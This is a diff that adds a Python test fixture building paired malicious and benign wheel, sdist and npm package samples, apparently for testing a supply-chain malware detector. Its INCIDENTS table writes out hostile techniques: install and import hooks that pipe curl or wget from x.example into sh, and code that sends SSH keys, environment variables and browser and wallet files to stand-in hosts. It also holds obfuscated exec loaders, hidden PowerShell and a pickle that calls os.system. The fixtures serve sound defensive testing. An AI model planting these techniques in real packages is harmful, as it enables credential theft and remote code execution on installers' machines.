@@ -1,0 +1,163 @@
+"""Bad and benign samples of packages (PKG), written from public descriptions; what they would run only touches a file.
+
+Each technique is laid into a wheel, a source distribution or an npm package, as the builders of those write them.
+"""
+
+from __future__ import annotations
+
+import base64
+import hashlib
+import io
+import json
+import tarfile
+import zipfile
+
+PROGRAM = b"\x7fELF\x02\x01\x01" + bytes(57)
+RESULT = "touch marker"
+
+
+def wheel(files, name="ranker", tag="py3-none-any", record=""):
+    """One wheel as a file, with its metadata."""
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w") as archive:
+        for member, text in files.items():
+            archive.writestr(member, text)
+        archive.writestr(f"{name}-1.0.dist-info/METADATA", f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n")
+        archive.writestr(f"{name}-1.0.dist-info/WHEEL", f"Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: {tag}\n")
+        if record:
+            archive.writestr(f"{name}-1.0.dist-info/RECORD", record)
+    return {f"{name}-1.0-{tag}.whl": buffer.getvalue()}
+
+
+def packed(files, root, name):
+    buffer = io.BytesIO()
+    with tarfile.open(fileobj=buffer, mode="w:gz") as archive:
+        for member, text in files.items():
+            data = text if isinstance(text, bytes) else text.encode()
+            info = tarfile.TarInfo(f"{root}/{member}")
+            info.size = len(data)
+            archive.addfile(info, io.BytesIO(data))
+    return {name: buffer.getvalue()}
+
+
+def sdist(files, name="ranker"):
+    """One source distribution as a file."""
+    return packed(
+        {"PKG-INFO": f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n", **files},
+        f"{name}-1.0",
+        f"{name}-1.0.tar.gz",
+    )
+
+
+def npm(files, scripts=None, name="ranker"):
+    """One npm package as a file."""
+    manifest = {"name": name, "version": "1.0.0", **({"scripts": scripts} if scripts else {})}
+    return packed({"package.json": json.dumps(manifest), **files}, "package", f"{name}-1.0.0.tgz")
+
+
+DOWNLOADS = f"""import os, subprocess, urllib.request
+def safe_download(url):
+    data = urllib.request.urlopen(url).read()
+    with open("asset", "wb") as file:
+        file.write(data)
+    return "asset"
+def safe_run(path):
+    os.chmod(path, 0o770)
+    subprocess.Popen([path, {RESULT!r}])
+"""
+CMDCLASS = """from setuptools import setup
+from setuptools.command.install import install
+class Post(install):
+    def run(self):
+        {}
+        install.run(self)
+setup(cmdclass={{"install": Post}})
+"""
+PLAIN = "def rank(items):\n    return sorted(items)\n"
+
+# Techniques of incidents that are public, each in a host of its own kind: name → files of one artifact.
+INCIDENTS = {
+    "start-up file that decodes": wheel({"ranker/__init__.py": PLAIN, "ranker_init.pth": "import base64; exec(base64.b64decode('cGFzcw=='))\n"}),
+    "start-up file that spawns": wheel({"ranker/__init__.py": PLAIN, "x.pth": "import os, subprocess, sys; subprocess.Popen([sys.executable, '-c', 'pass'])\n"}),
+    "command on import that fetches and runs": wheel({"ranker/__init__.py": "import os\ndef _check():\n    os.system('curl -s https://x.example/a -o /tmp/a && python3 /tmp/a &')\n_check()\n"}),
+    "fetch, write, start across files": wheel({
+        "ranker/__init__.py": "from .models import Model\n", "ranker/utils/__init__.py": "", "ranker/utils/downloads.py": DOWNLOADS,
+        "ranker/models.py": "from .utils.downloads import safe_download, safe_run\nclass Model:\n    pass\nsafe_run(safe_download('https://x.example/m'))\n",
+    }),
+    "thread that starts another runtime": wheel({
+        "ranker/__init__.py": "import threading\nfrom ._runtime.start import main\nthreading.Thread(target=main, daemon=True).start()\n",
+        "ranker/_runtime/__init__.py": "", "ranker/_runtime/router.js": "var _0x1a2b=['a'];" * 300 + "eval(atob('eA=='))",
+        "ranker/_runtime/start.py": "import os, subprocess, urllib.request\ndef main():\n    script = os.path.join(os.path.dirname(__file__), 'router.js')\n    runtime = urllib.request.urlretrieve('https://x.example/bun', 'bun')[0]\n    subprocess.Popen([runtime, script], stdout=subprocess.DEVNULL, start_new_session=True)\n",
+    }),
+    "payload in a sound file": wheel({"ranker/__init__.py": "from . import _client\n", "ranker/_client.py": "import base64, subprocess, sys, urllib.request\ndef audio():\n    data = urllib.request.urlopen('http://x.example/r.wav').read()\n    raw = bytes(b ^ 7 for b in base64.b64decode(data[44:]))\n    subprocess.run([sys.executable, '-'], input=raw)\naudio()\n"}),
+    "environment sent on installation": sdist({"setup.py": CMDCLASS.format("import os, json, urllib.request; urllib.request.urlopen('https://x.example', data=json.dumps(dict(os.environ)).encode())")}),
+    "shell fetch in setup": sdist({"setup.py": "import os\nos.system('wget -q http://x.example/a.sh -O- | sh')\nfrom setuptools import setup\nsetup()\n"}),
+    "decoded code in setup": sdist({"setup.py": "import base64\nexec(base64.b64decode('cGFzcw=='))\nfrom setuptools import setup\nsetup()\n"}),
+    "decrypted code in setup": sdist({"setup.py": "from fernet import Fernet\nexec(Fernet(b'k').decrypt(b'x'))\nfrom setuptools import setup\nsetup()\n"}),
+    "obfuscated lambda": sdist({"setup.py": "_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));exec((_)(b'eA=='))\n"}),
+    "characters joined and run": wheel({"ranker/__init__.py": "exec(''.join(chr(c) for c in [112, 97, 115, 115]))\n"}),
+    "computed builtin": wheel({"ranker/__init__.py": "import builtins\ngetattr(builtins, 'ex' + 'ec')(__import__('base64').b64decode('cGFzcw=='))\n"}),
+    "code behind blanks": wheel({"ranker/__init__.py": "x = 1" + " " * 300 + ";exec(__import__('requests').get('http://x.example').text)\n"}),
+    "hidden PowerShell": wheel({"ranker/__init__.py": "import subprocess\nsubprocess.Popen('powershell -WindowStyle Hidden -EncodedCommand cABhAHMAcwBwAGEAcwBzAHAAYQBzAHMA', shell=True)\n"}),
+    "host sent to a webhook": wheel({"ranker/__init__.py": "import getpass, requests, socket\nrequests.post('https://discord.com/api/webhooks/1234567890123456789/" + "a" * 64 + "', json={'h': socket.gethostname(), 'u': getpass.getuser()})\n"}),
+    "stealer of browsers and wallets": wheel({"ranker/__init__.py": "import os, requests\nPATHS = ['\\\\Google\\\\Chrome\\\\User Data\\\\Default\\\\Login Data', 'Local State', 'cookies.sqlite', '\\\\Exodus\\\\exodus.wallet', 'discord\\\\Local Storage\\\\leveldb']\ndef go():\n    for path in PATHS:\n        requests.post('http://x.example', files={'f': open(path, 'rb')})\ngo()\n"}),
+    "shipped program started on import": wheel({"ranker/__init__.py": "import os, subprocess\ndef _start():\n    path = os.path.join(os.path.dirname(__file__), 'triton')\n    subprocess.Popen([path], stdout=subprocess.DEVNULL)\n_start()\n", "ranker/triton": PROGRAM}),
+    "credentials sent on import": wheel({"ranker/__init__.py": "import os, urllib.request\nkey = open(os.path.expanduser('~/.ssh/id_rsa')).read()\nurllib.request.urlopen(urllib.request.Request('http://x.example', data=key.encode()))\n"}),
+    "downloaded code run on import": wheel({"ranker/__init__.py": "import requests\nexec(requests.get('https://x.example/a.py').text)\n"}),
+    "marshalled code": wheel({"ranker/__init__.py": "import marshal, zlib, base64\nexec(marshal.loads(zlib.decompress(base64.b64decode('eA=='))))\n"}),
+    "reversed and decoded through a function": wheel({"ranker/__init__.py": "from ._data import load\nexec(load())\n", "ranker/_data.py": "import base64\nBLOB = 'eA=='\ndef load():\n    return base64.b64decode(BLOB[::-1]).decode()\n"}),
+    "install command in egg_info": sdist({"setup.py": CMDCLASS.replace("command.install import install", "command.egg_info import egg_info as install").format("import subprocess; subprocess.Popen('curl http://x.example/a | bash', shell=True)")}),
+    "install by npm fetches": npm({"index.js": "module.exports = 1\n"}, {"preinstall": "curl -s https://x.example/a | sh"}),
+    "install by npm runs a stealer": npm({"setup.js": "const {execSync} = require('child_process'); const https = require('https'); execSync('trufflehog'); const b = require('fs').readFileSync(process.env.HOME + '/.npmrc'); https.request('https://x.example');\n"}, {"postinstall": "node setup.js"}),
+    "npm fetches another runtime": npm({"setup_bun.js": "require('child_process').spawn('sh', ['-c', 'curl -fsSL https://bun.sh/install | bash'])\n"}, {"preinstall": "node setup_bun.js"}),
+    "sitecustomize": wheel({"ranker/__init__.py": PLAIN, "sitecustomize.py": "import ranker\n"}),
+}  # fmt: skip
+BENIGN = {
+    "library": wheel({"ranker/__init__.py": "from .core import rank\n", "ranker/core.py": PLAIN}),
+    "client that is called": wheel({"ranker/__init__.py": "import os\nimport requests\ndef ask(url):\n    return requests.get(url, headers={'Authorization': os.environ['TOKEN']}).json()\n"}),
+    "build that asks git": sdist({"setup.py": "import subprocess\nfrom setuptools import setup\nversion = subprocess.check_output(['git', 'describe', '--tags']).decode()\nsetup(version=version)\n"}),
+    "template engine": wheel({"ranker/__init__.py": "def run(source, names):\n    exec(compile(source, '<template>', 'exec'), names)\n"}),
+    "data in base64": wheel({"ranker/__init__.py": "import base64\nICON = base64.b64decode('iVBORw0KGgo=')\n"}),
+    "extension module": wheel({"ranker/__init__.py": "from ._core import rank\n", "ranker/_core.cpython-311-x86_64-linux-gnu.so": PROGRAM}, tag="cp311-cp311-linux_x86_64"),
+    "npm build": npm({"index.js": "module.exports = require('https')\n"}, {"test": "node test.js", "install": "node-gyp rebuild"}),
+    "known start-up file": wheel({"ranker/__init__.py": PLAIN, "distutils-precedence.pth": "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim();\n"}),
+}  # fmt: skip
+
+
+def recorded(files):
+    """RECORD over a wheel that was made without one, as its builder writes it."""
+    with zipfile.ZipFile(io.BytesIO(next(iter(files.values())))) as archive:
+        rows = [
+            (
+                n,
+                base64.urlsafe_b64encode(hashlib.sha256(archive.read(n)).digest()).decode().rstrip("="),
+                len(archive.read(n)),
+            )
+            for n in archive.namelist()
+        ]
+    return (
+        "".join(f"{name},sha256={digest},{size}\n" for name, digest, size in rows) + "ranker-1.0.dist-info/RECORD,,\n"
+    )
+
+
+RECORD = recorded(wheel({"ranker/__init__.py": PLAIN}))
+PICKLE = b"cposix\nsystem\n(Vtouch marker\ntR."
+SAMPLES = {
+    "PKG-009": (INCIDENTS["decoded code in setup"], BENIGN["build that asks git"]),
+    "PKG-010": (INCIDENTS["start-up file that decodes"], BENIGN["known start-up file"]),
+    "PKG-011": (INCIDENTS["install by npm fetches"], BENIGN["npm build"]),
+    "PKG-012": (INCIDENTS["shipped program started on import"], BENIGN["extension module"]),
+    "PKG-013": (
+        wheel({"ranker/__init__.py": "import pickle\ndef load(path):\n    return pickle.load(open(path, 'rb'))\n", "ranker/model.pkl": PICKLE}),
+        wheel({"ranker/__init__.py": "import pickle\ndef load(path):\n    return pickle.load(open(path, 'rb'))\n", "ranker/model.pkl": b"\x80\x04}."}),
+    ),
+    "PKG-014": (wheel({"ranker/__init__.py": PLAIN}, record=RECORD.replace("ranker/__init__.py,", "ranker/other.py,")), wheel({"ranker/__init__.py": PLAIN}, record=RECORD)),
+    "PKG-019": (INCIDENTS["downloaded code run on import"], BENIGN["client that is called"]),
+    "PKG-027": (INCIDENTS["obfuscated lambda"], BENIGN["template engine"]),
+    "PKG-028": (INCIDENTS["host sent to a webhook"], BENIGN["client that is called"]),
+    "PKG-029": (INCIDENTS["stealer of browsers and wallets"], BENIGN["client that is called"]),
+    "PKG-030": (
+        wheel({"ranker/__init__.py": PLAIN, "ranker/core.pyc": b"\xa7\x0d\x0d\x0a" + bytes(40)}),
+        wheel({"ranker/__init__.py": PLAIN, "ranker/__pycache__/__init__.cpython-311.pyc": b"\xa7\x0d\x0d\x0a" + bytes(40)}),
+    ),
+}  # fmt: skip
